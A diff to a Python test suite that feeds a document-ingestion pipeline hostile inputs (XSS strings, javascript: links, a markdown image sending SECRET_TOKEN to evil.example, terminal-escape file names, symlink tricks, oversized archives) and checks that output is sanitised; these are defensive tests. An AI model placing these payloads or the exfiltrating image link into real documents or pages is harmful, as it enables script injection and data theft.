@@ -97,7 +97,7 @@ XSS_ABSENT = ("alert(", "onerror", "onload", "javascript:", "<script", "<iframe"
 
 
 def long_line(marker: str) -> str:
-    return " ".join([h.prose(marker, 1)] * 1200)  # one ~130 KB line
+    return " ".join([h.prose(marker, 1)] * 300)  # one ~35 KB line
 
 
 def no_whitespace(marker: str) -> str:
@@ -108,7 +108,7 @@ def no_whitespace(marker: str) -> str:
 def punctuated_blob(marker: str) -> str:
     rng = random.Random(marker)
     alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="
-    return marker + "," + "".join(rng.choice(alphabet) for _ in range(60_000))
+    return marker + "," + "".join(rng.choice(alphabet) for _ in range(12_000))
 
 
 def mixed_encodings(marker: str) -> bytes:
@@ -143,9 +143,16 @@ def markdown_raw_html(marker: str) -> str:
     return (
         f"# Notes {marker}\n\n{h.prose(marker, 2)}\n\n{XSS}\n\n"
         "<div onclick=\"alert('div')\">Inline <b>bold</b> words stay.</div>\n\n"
-        "[click me](javascript:alert('md')) and "
-        "![exfil](https://evil.example/collect?d=SECRET_TOKEN)\n\n"
         "<a href=\"javascript:alert('a')\">a link</a> <u>underlined</u> text.\n"
+    )
+
+
+def markdown_links(marker: str) -> str:
+    """A javascript: link (CommonMark leaves it as plain text) and an image that exfiltrates."""
+    return (
+        f"{h.prose(marker, 2)}\n\n[click me](javascript:alert('md')) and "
+        "![exfil](https://evil.example/collect?d=SECRET_TOKEN) and "
+        "[a fine link](https://example.org/page) end.\n"
     )
 
 
@@ -199,8 +206,8 @@ def big_text(marker: str, folder: Path) -> list[Path]:
 
 
 def many_pages(marker: str) -> bytes:
-    return h.pdf_bytes([f"Page {i} of the {marker}p{i} survey: " + h.prose(f"{marker}x", 1)
-                        for i in range(1, PAGES + 1)])
+    return h.pdf_bytes([f"Page {i} of the {marker} survey, part {marker}p{i}: "
+                        + h.prose(f"{marker}x", 1) for i in range(1, PAGES + 1)])
 
 
 PAGES = 3000
@@ -237,7 +244,7 @@ def docx_many_members(marker: str) -> bytes:
     out = BytesIO(h.docx_bytes([h.prose(marker, 2)]))
     with zipfile.ZipFile(out, "a") as archive:
         for i in range(10_001):
-            archive.writestr(f"customXml/item{i}.xml", b"<a/>")
+            archive.writestr(f"bulk/item{i}.xml", b"<a/>")
     return out.getvalue()
 
 
@@ -322,6 +329,11 @@ def uploads(name: str) -> Callable[[Path], list[Path]]:
     return make
 
 
+def duplicate_of_control_name(folder: Path) -> list[Path]:
+    text = h.prose(marker_of(folder))
+    return [write(folder, "dup\nname\x1b[2J.txt", text), write(folder, "dup2.txt", text)]
+
+
 def symlink_outside(folder: Path) -> list[Path]:
     outside = folder.parent / f"outside-{folder.name}.txt"
     outside.write_text(h.prose(marker_of(folder) + "out"))
@@ -345,7 +357,7 @@ def symlink_loop(folder: Path) -> list[Path]:
 def symlink_dangling(folder: Path) -> list[Path]:
     docs = folder / "docs"
     docs.mkdir()
-    (docs / "gone.txt").symlink_to(folder / "missing.txt")
+    (docs / "gone.txt").symlink_to(docs / "missing.txt")
     return [docs]
 
 
@@ -371,6 +383,12 @@ PIPELINE_HANG = (
     "qa/pipeline.py Ingestor.add_file hashes the file (file_hash) before the loader sees it, "
     "and open()/read() of a FIFO or a character device never ends; the loader refuses "
     "non-regular files, but is never reached"
+)
+PIPELINE_RAW_PATH = (
+    "qa/pipeline.py puts the other file's raw path in a duplicate's message ('same content as "
+    "<path>'), and iter_files the link and target paths in 'skipped: symlink to ...'; a name "
+    "with a newline or terminal escapes makes that message several lines or rewrites the "
+    "terminal (the CLI prints it as is)"
 )
 PIPELINE_LOOP = (
     "qa/pipeline.py iter_files calls Path.resolve() on every file of a folder; a symlink "
@@ -423,10 +441,16 @@ CASES: list[Case] = [
          absent=("\x1b", "\x07", "\x08", "\x9b", "\x85")),
     Case("txt-html-payload", file("page.txt", lambda m: f"{h.prose(m, 2)}\n\n{XSS}\n\nAfter."),
          ("added",), absent=XSS_ABSENT),
+    Case("txt-unclosed-tags", file("tags.txt", lambda m: "<script>" * 30000 + "<!--" * 30000
+                                   + "<style>" + h.prose(m, 2) + "\x1b]0;no end"),
+         ("added",), absent=("<script", "<!--", "<style")),
     # --- Markdown ------------------------------------------------------------------------
     Case("md-raw-html", file("notes.md", markdown_raw_html), ("added",),
-         contains=("click me", "a link", "underlined", "Inline bold words stay."),
-         absent=(*XSS_ABSENT, "onclick", "evil.example", "SECRET_TOKEN", "exfil", "<b>", "<u>")),
+         contains=("a link underlined text.", "Inline bold words stay."),
+         absent=(*XSS_ABSENT, "onclick", "<b>", "<u>", "<div")),
+    Case("md-links-and-images", file("links.md", markdown_links), ("added",),
+         contains=("and a fine link end.",),
+         absent=("evil.example", "SECRET_TOKEN", "exfil", "https://example.org")),
     Case("md-deep-nesting", file("deep.md", markdown_deep), ("added",)),
     # --- HTML ----------------------------------------------------------------------------
     Case("html-deep-nesting", file("deep.html", html_deep), ("added",)),
@@ -493,8 +517,10 @@ CASES: list[Case] = [
     Case("upload-very-long", uploads("a" * 5000 + ".md"), ("added",)),
     Case("duplicate-names", duplicates, ("added", "duplicate"), ("same content",)),
     Case("duplicate-other-type", duplicate_other_type, ("added", "duplicate"), ("same content",)),
+    Case("duplicate-of-control-name", duplicate_of_control_name, ("added", "duplicate"),
+         ("same content",), marks=(pytest.mark.xfail(strict=True, reason=PIPELINE_RAW_PATH),)),
     Case("symlinks-outside-folder", symlink_outside, ("failed",) * 3, ("outside",)),
-    Case("symlink-dangling", symlink_dangling, ("failed",), ("does not exist",)),
+    Case("symlink-dangling", symlink_dangling, ("failed",), ("no such file",)),
     Case("symlink-loop", symlink_loop, ("failed", "failed"), ("symlink",),
          marks=(pytest.mark.xfail(strict=True, reason=PIPELINE_LOOP),)),
     Case("fifo-in-folder", fifo_in_folder, ("failed",), ("not a regular file",), seconds=20,
